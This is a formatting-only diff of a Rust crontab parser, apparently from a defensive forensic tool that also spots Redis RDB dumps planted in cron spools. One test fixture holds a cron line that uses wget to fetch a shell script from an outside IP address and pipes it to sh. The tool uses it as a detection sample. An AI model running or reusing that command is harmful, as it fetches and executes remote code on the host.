@@ -25,7 +25,11 @@ pub enum Schedule {
     /// `@reboot`, `@daily`, ... (lowercased, with the `@`).
     Nickname(String),
     /// Anacron period and delay.
-    Anacron { period: Vec<u8>, delay: Vec<u8>, id: Vec<u8> },
+    Anacron {
+        period: Vec<u8>,
+        delay: Vec<u8>,
+        id: Vec<u8>,
+    },
 }
 
 impl Schedule {
@@ -90,11 +94,20 @@ pub struct CronEntry {
 pub enum CronLine {
     Entry(CronEntry),
     /// `NAME=value` (spaces around `=` allowed, value quotes kept).
-    Env { line: u32, name: Vec<u8>, value: Vec<u8> },
+    Env {
+        line: u32,
+        name: Vec<u8>,
+        value: Vec<u8>,
+    },
     /// Blank or `#` comment.
-    Comment { line: u32 },
+    Comment {
+        line: u32,
+    },
     /// Anything cron would reject: junk bytes, a truncated entry, RDB padding.
-    Invalid { line: u32, raw: Vec<u8> },
+    Invalid {
+        line: u32,
+        raw: Vec<u8>,
+    },
 }
 
 const NICKNAMES: &[&str] = &[
@@ -146,7 +159,10 @@ pub fn spool_user(path: &[u8]) -> Option<&[u8]> {
 pub fn is_redis_rdb(bytes: &[u8]) -> bool {
     match bytes.get(..9) {
         Some(head) => {
-            head.starts_with(b"REDIS") && head.get(5..).is_some_and(|v| v.iter().all(u8::is_ascii_digit))
+            head.starts_with(b"REDIS")
+                && head
+                    .get(5..)
+                    .is_some_and(|v| v.iter().all(u8::is_ascii_digit))
         }
         None => false,
     }
@@ -164,7 +180,8 @@ pub fn parse_line(line_no: u32, raw: &[u8], format: CronFormat) -> CronLine {
     };
     let first = text.first().copied().unwrap_or_default();
     let starts_entry = first == b'*' || first == b'@' || first.is_ascii_digit();
-    if !starts_entry || (format == CronFormat::Anacron && !first.is_ascii_digit() && first != b'@') {
+    if !starts_entry || (format == CronFormat::Anacron && !first.is_ascii_digit() && first != b'@')
+    {
         return match env_assignment(text) {
             Some((name, value)) => CronLine::Env {
                 line: line_no,
@@ -196,9 +213,11 @@ pub fn parse_line(line_no: u32, raw: &[u8], format: CronFormat) -> CronLine {
         }
         Schedule::Nickname(nick)
     } else if format == CronFormat::Anacron {
-        let (Some(period), Some(delay), Some(id)) =
-            (take_field(&mut rest), take_field(&mut rest), take_field(&mut rest))
-        else {
+        let (Some(period), Some(delay), Some(id)) = (
+            take_field(&mut rest),
+            take_field(&mut rest),
+            take_field(&mut rest),
+        ) else {
             return invalid();
         };
         Schedule::Anacron { period, delay, id }
@@ -206,7 +225,10 @@ pub fn parse_line(line_no: u32, raw: &[u8], format: CronFormat) -> CronLine {
         let mut fields = Vec::with_capacity(5);
         for _ in 0..5 {
             match take_field(&mut rest) {
-                Some(f) if f.iter().all(|b| b.is_ascii_alphanumeric() || b"*/,-".contains(b)) => {
+                Some(f)
+                    if f.iter()
+                        .all(|b| b.is_ascii_alphanumeric() || b"*/,-".contains(b)) =>
+                {
                     fields.push(f)
                 }
                 _ => return invalid(),
@@ -239,7 +261,11 @@ pub fn parse_line(line_no: u32, raw: &[u8], format: CronFormat) -> CronLine {
 fn env_assignment(text: &[u8]) -> Option<(Vec<u8>, Vec<u8>)> {
     let eq = text.iter().position(|b| *b == b'=')?;
     let name = text.get(..eq)?.trim_ascii();
-    if name.is_empty() || name.iter().any(|b| b.is_ascii_whitespace() || !b.is_ascii_graphic()) {
+    if name.is_empty()
+        || name
+            .iter()
+            .any(|b| b.is_ascii_whitespace() || !b.is_ascii_graphic())
+    {
         return None;
     }
     let value = text.get(eq + 1..)?.trim_ascii();
@@ -299,17 +325,26 @@ mod tests {
         let text = b"SHELL=/bin/sh\nPATH = /usr/bin:/bin\n# comment\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot  root /usr/bin/x  -a\n";
         let lines = parse(text, CronFormat::System);
         assert!(matches!(&lines[0], CronLine::Env { name, .. } if name == b"SHELL"));
-        assert!(matches!(&lines[1], CronLine::Env { name, value, .. } if name == b"PATH" && value == b"/usr/bin:/bin"));
+        assert!(
+            matches!(&lines[1], CronLine::Env { name, value, .. } if name == b"PATH" && value == b"/usr/bin:/bin")
+        );
         assert!(matches!(lines[2], CronLine::Comment { line: 3 }));
-        let CronLine::Entry(e) = &lines[3] else { panic!("{:?}", lines[3]) };
+        let CronLine::Entry(e) = &lines[3] else {
+            panic!("{:?}", lines[3])
+        };
         assert_eq!(e.line, 4);
         assert_eq!(e.user.as_deref(), Some(&b"root"[..]));
         assert_eq!(e.command, b"cd / && run-parts --report /etc/cron.hourly");
-        let CronLine::Entry(e) = &lines[4] else { panic!() };
+        let CronLine::Entry(e) = &lines[4] else {
+            panic!()
+        };
         assert!(e.schedule.at_boot());
         assert_eq!(e.command, b"/usr/bin/x  -a");
 
-        let user = entries(b"* * * * * wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1", CronFormat::User);
+        let user = entries(
+            b"* * * * * wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1",
+            CronFormat::User,
+        );
         assert_eq!(user.len(), 1);
         assert!(user[0].schedule.frequent());
         assert_eq!(user[0].user, None);
@@ -324,11 +359,19 @@ mod tests {
         let lines = parse(&bytes, CronFormat::User);
         let entries: Vec<_> = lines
             .iter()
-            .filter_map(|l| if let CronLine::Entry(e) = l { Some(e) } else { None })
+            .filter_map(|l| {
+                if let CronLine::Entry(e) = l {
+                    Some(e)
+                } else {
+                    None
+                }
+            })
             .collect();
         assert_eq!(entries.len(), 1);
         assert_eq!(entries[0].line, 4);
-        assert!(lines.iter().any(|l| matches!(l, CronLine::Invalid { line: 1, .. })));
+        assert!(lines
+            .iter()
+            .any(|l| matches!(l, CronLine::Invalid { line: 1, .. })));
         assert!(!is_redis_rdb(b"REDIS"));
         assert!(!is_redis_rdb(b"* * * * * x"));
     }
@@ -336,20 +379,47 @@ mod tests {
     #[test]
     fn paths_and_formats() {
         assert_eq!(format_for_path(b"/etc/crontab"), Some(CronFormat::System));
-        assert_eq!(format_for_path(b"/etc/cron.d/php"), Some(CronFormat::System));
-        assert_eq!(format_for_path(b"/var/spool/cron/crontabs/redis"), Some(CronFormat::User));
-        assert_eq!(format_for_path(b"/var/spool/cron/root"), Some(CronFormat::User));
+        assert_eq!(
+            format_for_path(b"/etc/cron.d/php"),
+            Some(CronFormat::System)
+        );
+        assert_eq!(
+            format_for_path(b"/var/spool/cron/crontabs/redis"),
+            Some(CronFormat::User)
+        );
+        assert_eq!(
+            format_for_path(b"/var/spool/cron/root"),
+            Some(CronFormat::User)
+        );
         assert_eq!(format_for_path(b"/var/spool/cron/crontabs"), None);
         assert_eq!(format_for_path(b"/etc/cron.daily/logrotate"), None);
-        assert_eq!(spool_user(b"/var/spool/cron/crontabs/redis"), Some(&b"redis"[..]));
+        assert_eq!(
+            spool_user(b"/var/spool/cron/crontabs/redis"),
+            Some(&b"redis"[..])
+        );
     }
 
     #[test]
     fn junk_and_truncated_lines_are_invalid() {
-        for l in [&b"* * * *"[..], b"1 2 3 4 5", b"1 2 3 4 5 root", b"@never x", b"\xff\xfe"] {
-            assert!(matches!(parse_line(1, l, CronFormat::System), CronLine::Invalid { .. }), "{l:?}");
+        for l in [
+            &b"* * * *"[..],
+            b"1 2 3 4 5",
+            b"1 2 3 4 5 root",
+            b"@never x",
+            b"\xff\xfe",
+        ] {
+            assert!(
+                matches!(
+                    parse_line(1, l, CronFormat::System),
+                    CronLine::Invalid { .. }
+                ),
+                "{l:?}"
+            );
         }
-        let a = entries(b"1\t5\tcron.daily\trun-parts /etc/cron.daily\n", CronFormat::Anacron);
+        let a = entries(
+            b"1\t5\tcron.daily\trun-parts /etc/cron.daily\n",
+            CronFormat::Anacron,
+        );
         assert_eq!(a[0].command, b"run-parts /etc/cron.daily");
     }
 }
